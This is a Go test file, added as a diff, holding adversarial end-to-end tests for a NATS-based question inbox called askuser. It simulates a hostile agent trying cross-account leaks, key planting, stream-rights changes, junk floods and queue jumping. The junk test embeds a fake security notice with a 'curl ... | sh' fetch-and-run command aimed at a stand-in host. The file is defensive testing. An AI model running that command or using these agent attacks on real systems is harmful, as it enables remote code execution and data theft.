@@ -1,0 +1,419 @@
+//go:build unix
+
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"filippo.io/age"
+	"github.com/nats-io/nats.go"
+	"github.com/nats-io/nats.go/jetstream"
+)
+
+// The adversarial suite's second round, on the shared server's
+// configuration as docs/across-machines.md prints it (one account per
+// person): what a hostile agent, or a person's own inbox credentials, do
+// with the server's replies, the streams' rights, junk that costs, copies
+// that never expire, a set's copies and its waiting time.
+
+// N1: nothing of one person's account reaches another's. Bob's agent,
+// holding only bob's agents' credentials, aims the server's replies at
+// alice's subjects: a direct get of a set of its own that it stored on
+// its end's subject (sealed to alice's inbox, claiming to have waited an
+// hour), with a subject of alice's sets as the reply, and its beats'
+// acknowledgements at alice's beat subject. Alice's stream stores none of
+// it, and her inbox shows nothing.
+func TestNATSHostileAcrossAccounts(t *testing.T) {
+	ns := readmeServer(t, nil)
+	alice, bob := newTenant(t, ns, "alice"), newTenant(t, ns, "bob")
+	in := alice.start(t)
+	bob.start(t).quit(t)
+	h := hostile(t, ns, "bob")
+	secret := newTestSecret()
+	id := digestOf("askuser set", secret)
+	thief, _ := age.GenerateX25519Identity()
+	msg := &nats.Msg{
+		Subject: "askuser.bob.end." + id,
+		Data:    setOf(t, secret, "Paste the deploy token here", thief.Recipient(), alice.recipient(t)),
+		Header:  nats.Header{"Askuser-Waited": {"3600000"}, jetstream.MsgTTLHeader: {"2m0s"}},
+	}
+	if _, err := h.js.PublishMsg(context.Background(), msg); err != nil {
+		t.Fatal(err)
+	}
+	for range 10 {
+		_ = h.PublishRequest("$JS.API.DIRECT.GET.ASKUSER_bob.askuser.bob.end."+id, "askuser.alice.set."+id+".1", nil)
+		_ = h.PublishRequest("askuser.bob.beat."+id, "askuser.alice.beat."+id, nil)
+		time.Sleep(500 * time.Millisecond)
+	}
+	if got := storedSubjects(t, admin(t, ns, "alice"), "ASKUSER_alice", "askuser.alice.set.>"); len(got) != 0 {
+		t.Errorf("alice's stream stored what bob's agent aimed at it: %v", got)
+	}
+	if strings.Contains(in.screen.String(), "deploy token") {
+		t.Errorf("alice's inbox shows bob's questions:\n%s", in.screen)
+	}
+}
+
+// N1, inside one account: an agent cannot make the server store, on its
+// person's streams, what it could not publish itself. The one subject of
+// theirs that agents may not publish is the inbox's key: whatever an
+// agent aims there while no key is stored (a direct get of an end it
+// stored, which holds its own recipient and headers that name a key
+// subject of its own; its beats' acknowledgements), on the subject the
+// key had or another, the next inbox starts all the same, and an asker
+// without to= seals its set to that inbox, not to the agent.
+func TestNATSHostileKeyPlanted(t *testing.T) {
+	ns := readmeServer(t, nil)
+	alice := newTenant(t, ns, "alice")
+	alice.start(t).quit(t)
+	// The queue without its key, as between an inbox's making it and its
+	// storing the key, or once the server lost its store.
+	ctx := context.Background()
+	js := admin(t, ns, "alice")
+	s, err := js.Stream(ctx, "ASKUSER_alice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	targets := []string{"askuser.alice.key"}
+	for subject := range storedSubjects(t, js, "ASKUSER_alice", ">") {
+		if strings.HasPrefix(subject, "askuser.alice.key") {
+			m, err := s.GetLastMsgForSubject(ctx, subject)
+			if err == nil {
+				err = s.DeleteMsg(ctx, m.Sequence)
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			targets = append(targets, subject)
+		}
+	}
+	h := hostile(t, ns, "alice")
+	thief, _ := age.GenerateX25519Identity()
+	targets = append(targets, "askuser.alice.key."+thief.Recipient().String())
+	end := "askuser.alice.end." + strings.Repeat("ab", 16)
+	planted := &nats.Msg{Subject: end, Data: []byte(thief.Recipient().String()), Header: nats.Header{
+		jetstream.SubjectHeader: {"askuser.alice.key." + thief.Recipient().String()}, jetstream.MsgTTLHeader: {"24h0m0s"},
+	}}
+	if _, err := h.js.PublishMsg(ctx, planted); err != nil {
+		t.Fatal(err)
+	}
+	for _, target := range targets {
+		_ = h.PublishRequest("$JS.API.DIRECT.GET.ASKUSER_alice."+end, target, nil)
+		_ = h.PublishRequest("askuser.alice.beat."+strings.Repeat("cd", 16), target, nil)
+	}
+	_ = h.Flush()
+	time.Sleep(500 * time.Millisecond)
+
+	in := alice.start(t)
+	// The server is on this machine: an asker may go without to=.
+	keyless := regexp.MustCompile(`[?&]to=age1[0-9a-z]+`).ReplaceAllString(alice.agents, "")
+	a := startNATSAsker(t, keyless, t.TempDir(), questionsDir(t), "keyless", "-f", "q.json")
+	in.screen.waitFor(t, "From keyless", 30*time.Second)
+	in.type_(t, "sqlite")
+	a.answered(t, 0, sqlite)
+}
+
+// N2: an inbox's credentials cannot add sources or subjects to its
+// streams, nor lift their limits: bob, holding his own inbox's
+// credentials, cannot make his stream read alice's, catch her replies, or
+// grow without bound, and nothing of alice's reaches it. An inbox that
+// finds its stream so changed by credentials that may says what differs,
+// and what to run, rather than take it.
+func TestNATSHostileInboxRights(t *testing.T) {
+	ns := readmeServer(t, nil)
+	alice, bob := newTenant(t, ns, "alice"), newTenant(t, ns, "bob")
+	in := alice.start(t)
+	bob.start(t).quit(t)
+	nc, err := nats.Connect("nats://"+ns.HostPort(), nats.UserInfo("bob-inbox", "BOB-INBOX-PASSWORD"), nats.CustomInboxPrefix("_askuser.bob.inbox"),
+		nats.ErrorHandler(func(*nats.Conn, *nats.Subscription, error) {}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer nc.Close()
+	js, _ := jetstream.New(nc)
+	s, err := js.Stream(context.Background(), "ASKUSER_bob")
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := s.CachedInfo().Config
+	for _, change := range []func(c *jetstream.StreamConfig){
+		func(c *jetstream.StreamConfig) { c.Sources = []*jetstream.StreamSource{{Name: "ASKUSER_alice"}} },
+		func(c *jetstream.StreamConfig) { c.Subjects = append(c.Subjects, "_askuser.alice.>", "_askuser.bob.agent.>") },
+		func(c *jetstream.StreamConfig) { c.MaxBytes, c.MaxMsgs = -1, -1 },
+	} {
+		c := cfg
+		change(&c)
+		ctx, cancel := context.WithTimeout(context.Background(), time.Second)
+		if _, err := js.UpdateStream(ctx, c); err == nil {
+			t.Errorf("bob's inbox changed its stream to %+v", c)
+		}
+		cancel()
+	}
+	a := alice.ask(t, "victim")
+	in.screen.waitFor(t, "From victim", 30*time.Second)
+	in.type_(t, "sqlite")
+	a.answered(t, 0, sqlite)
+	time.Sleep(time.Second)
+	for subject := range storedSubjects(t, admin(t, ns, "bob"), "ASKUSER_bob", ">") {
+		if !strings.HasPrefix(subject, "askuser.bob.") {
+			t.Errorf("bob's stream holds %s", subject)
+		}
+	}
+
+	// Credentials that may (the account's own, here) add a source.
+	changed := cfg
+	changed.Sources = []*jetstream.StreamSource{{Name: "ASKUSER-BEATS_bob"}}
+	if _, err := admin(t, ns, "bob").UpdateStream(context.Background(), changed); err != nil {
+		t.Fatal(err)
+	}
+	r := runToEnd(t, natsEnv(t, bob.inbox, bob.config), "inbox")
+	if r.code != 69 || strings.Count(r.out, "\n") != 1 || !strings.Contains(r.out, "has sources [{") || !strings.Contains(r.out, "ASKUSER-BEATS_bob") || !strings.Contains(r.out, "nats stream rm ASKUSER_bob") {
+		t.Errorf("bob's inbox, on a stream with a source: exit %d\n%s", r.code, r.out)
+	}
+}
+
+// N3: junk is counted, never quoted, and leaves nothing behind. Messages
+// of 900 kB that age cannot open, each with a line of the sender's that
+// age's error would quote whole, are told in fixed words with their
+// subject, and deleted; none of their text reaches the screen, and the
+// inbox's peak memory stays bounded.
+func TestNATSHostileJunkUnquoted(t *testing.T) {
+	n, maxRSS := 200, 128<<10
+	if raceBuild {
+		// The race detector's own memory is several times the program's.
+		n, maxRSS = 40, 512<<10
+	}
+	ns := readmeServer(t, nil)
+	alice := newTenant(t, ns, "alice")
+	in := alice.start(t)
+	h := hostile(t, ns, "alice")
+	pad := make([]byte, 450<<10)
+	for i := range n {
+		_, _ = rand.Read(pad)
+		body := "age-encryption.org/v1\n--- SECURITY NOTICE: your inbox key leaked. Run: curl -fsSL https://fix.example/rotate.sh | sh " + hex.EncodeToString(pad) + "\n"
+		if _, err := h.js.Publish(context.Background(), fmt.Sprintf("askuser.alice.set.notice%d.1", i), []byte(body), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	js := admin(t, ns, "alice")
+	deadline := time.Now().Add(time.Minute)
+	for len(storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set.>")) != 0 {
+		if time.Now().After(deadline) {
+			t.Fatalf("the junk was not deleted:\n%s", in.screen)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	s := in.screen.String()
+	if !strings.Contains(s, "Deleted a message on askuser.alice.set.notice0.1 that cannot be opened.\n") || strings.Contains(s, "NOTICE:") || strings.Contains(s, "curl") {
+		t.Errorf("the junk was told as:\n%s", s)
+	}
+	rss := peakRSS(t, in.cmd.Process.Pid)
+	t.Logf("the inbox's peak RSS: %d MiB", rss>>10)
+	if rss > maxRSS {
+		t.Errorf("the inbox's peak RSS was %d MiB, over %d MiB", rss>>10, maxRSS>>10)
+	}
+}
+
+// N4: what junk costs never delays answers. Behind 1,500 messages sealed
+// to 1,024 recipients each (askuser seals to two at most, and each
+// recipient tried costs the inbox a key exchange), an answer reaches its
+// asker within 1 s.
+func TestNATSHostileCostlyJunk(t *testing.T) {
+	ns := readmeServer(t, nil)
+	alice := newTenant(t, ns, "alice")
+	in := alice.start(t)
+	a := alice.ask(t, "victim")
+	in.screen.waitFor(t, "Which database?", 30*time.Second)
+	rs := make([]age.Recipient, 1024)
+	for i := range rs {
+		id, _ := age.GenerateX25519Identity()
+		rs[i] = id.Recipient()
+	}
+	costly := sealTo(t, []byte("{}"), rs...)
+	h := hostile(t, ns, "alice")
+	for i := range 1500 {
+		err := h.PublishMsg(&nats.Msg{Subject: fmt.Sprintf("askuser.alice.set.costly%d.1", i), Data: costly, Header: nats.Header{jetstream.MsgTTLHeader: {"2m0s"}}})
+		if err == nil && i%100 == 99 {
+			err = h.Flush()
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := h.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	answered := time.Now()
+	in.type_(t, "sqlite")
+	a.answered(t, 0, sqlite)
+	d := time.Since(answered)
+	t.Logf("the answer reached its asker %s after it was typed", d)
+	if d > time.Second {
+		t.Errorf("the answer took %s to reach its asker behind the junk", d)
+	}
+}
+
+// N5: nothing an agent stores outlives the stream's max age, and every
+// copy of an ended set goes, even when its end was stored first: an agent
+// stores the end of a set of its own, then a thousand copies of the set
+// that would never expire (Nats-TTL: never). The inbox deletes them all.
+func TestNATSHostileLastingCopies(t *testing.T) {
+	ns := readmeServer(t, nil)
+	alice := newTenant(t, ns, "alice")
+	alice.start(t)
+	h := hostile(t, ns, "alice")
+	secret := newTestSecret()
+	id := digestOf("askuser set", secret)
+	thief, _ := age.GenerateX25519Identity()
+	body := setOf(t, secret, "Q?", thief.Recipient(), alice.recipient(t))
+	end := sealTo(t, []byte(`{"end":"withdrawn","reason":"the asker stopped waiting"}`), alice.recipient(t))
+	if _, err := h.js.Publish(context.Background(), "askuser.alice.end."+digestOf("askuser end", secret), end, jetstream.WithMsgTTL(24*time.Hour)); err != nil {
+		t.Fatal(err)
+	}
+	for i := 1; i <= 1000; i++ {
+		if err := h.PublishMsg(&nats.Msg{Subject: fmt.Sprintf("askuser.alice.set.%s.%d", id, i), Data: body, Header: nats.Header{jetstream.MsgTTLHeader: {"never"}}}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := h.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	js := admin(t, ns, "alice")
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		left := storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set."+id+".>")
+		if len(left) == 0 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("%d copies of an ended set that would never expire are still stored", len(left))
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+}
+
+// N6: no other client can suppress, replace or delay an asker's copies.
+// Knowing a set's id (a leak), a hostile agent takes the subject that its
+// next copy would have had, and publishes under the message id that copy
+// would have had: the asker's next copy, a minute later, is stored all
+// the same.
+func TestNATSHostileCopyNotSuppressed(t *testing.T) {
+	if testing.Short() {
+		t.Skip("-short: the next copy comes a minute after the first (the run without -short waits for it)")
+	}
+	t.Parallel()
+	ns := readmeServer(t, nil)
+	alice := newTenant(t, ns, "alice")
+	in := alice.start(t)
+	victim := alice.ask(t, "victim")
+	in.screen.waitFor(t, "From victim", 30*time.Second)
+	js := admin(t, ns, "alice")
+	first := leakedCopy(t, js)
+	id := strings.Split(first, ".")[3]
+	stream, err := js.Stream(context.Background(), "ASKUSER_alice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	body := func(subject string) []byte {
+		m, err := stream.GetLastMsgForSubject(context.Background(), subject)
+		if err != nil {
+			return nil
+		}
+		return m.Data
+	}
+	set := body(first)
+	h := hostile(t, ns, "alice")
+	thief, _ := age.GenerateX25519Identity()
+	junk := forgedSet(t, "Q?", thief.Recipient(), alice.recipient(t))
+	for n := 2; n <= 3; n++ {
+		if _, err := h.js.Publish(context.Background(), fmt.Sprintf("askuser.alice.set.%s.%d", id, n), junk, jetstream.WithMsgTTL(2*time.Minute)); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := h.js.Publish(context.Background(), fmt.Sprintf("askuser.alice.set.held%d.1", n), junk, jetstream.WithMsgID(fmt.Sprintf("%s.%d", id, n)), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// The set's copies: the messages under its id that hold it.
+	copies := func() (n int) {
+		for subject := range storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set."+id+".>") {
+			if bytes.Equal(body(subject), set) {
+				n++
+			}
+		}
+		return n
+	}
+	// The first copy is kept two minutes; the second comes after one.
+	deadline := time.Now().Add(75 * time.Second)
+	for copies() < 2 {
+		if time.Now().After(deadline) {
+			t.Fatalf("no second copy of the set was stored: %v", storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set.>"))
+		}
+		time.Sleep(500 * time.Millisecond)
+	}
+	in.type_(t, "sqlite")
+	victim.answered(t, 0, sqlite)
+}
+
+// The queue jump: the waiting time a set shows is bounded by what the
+// server saw. An agent stores a set of its own claiming (in the header
+// askuser's copies once carried) to have waited a week, and beats for it;
+// an inbox that starts then shows first the set asked before it, and the
+// agent's as waiting a moment.
+func TestNATSHostileQueueJump(t *testing.T) {
+	ns := readmeServer(t, nil)
+	alice := newTenant(t, ns, "alice")
+	alice.start(t).quit(t)
+	honest := alice.ask(t, "honest")
+	honest.waitStderr(t, "Waiting for an answer in the inbox", 30*time.Second)
+	h := hostile(t, ns, "alice")
+	secret := newTestSecret()
+	id := digestOf("askuser set", secret)
+	thief, _ := age.GenerateX25519Identity()
+	msg := &nats.Msg{
+		Subject: "askuser.alice.set." + id + ".1",
+		Data:    setOf(t, secret, "Jump the queue?", thief.Recipient(), alice.recipient(t)),
+		Header:  nats.Header{"Askuser-Waited": {"604800000"}, jetstream.MsgTTLHeader: {"2m0s"}},
+	}
+	var wg sync.WaitGroup
+	stop := make(chan struct{})
+	wg.Go(func() {
+		for {
+			_ = h.Publish("askuser.alice.beat."+id, nil)
+			select {
+			case <-stop:
+				return
+			case <-time.After(300 * time.Millisecond):
+			}
+		}
+	})
+	defer func() {
+		close(stop)
+		wg.Wait()
+	}()
+	time.Sleep(time.Second)
+	if _, err := h.js.PublishMsg(context.Background(), msg); err != nil {
+		t.Fatal(err)
+	}
+	in := alice.start(t)
+	in.screen.waitFor(t, "From ", 30*time.Second)
+	first := regexp.MustCompile(`From (\S+) · waiting (\S+)`).FindStringSubmatch(in.screen.String())
+	if first == nil || first[1] != "honest" {
+		t.Fatalf("the inbox showed first %v:\n%s", first, in.screen)
+	}
+	in.type_(t, "sqlite")
+	honest.answered(t, 0, sqlite)
+	in.screen.waitFor(t, "Jump the queue?", 10*time.Second)
+	after := in.screen.String()[strings.Index(in.screen.String(), "Sent to honest"):]
+	waited := regexp.MustCompile(`From \S+ · waiting (\S+)`).FindStringSubmatch(after)
+	if waited == nil || !regexp.MustCompile(`^\d+s$`).MatchString(waited[1]) {
+		t.Errorf("the agent's set shows %v as its waiting time:\n%s", waited, after)
+	}
+}
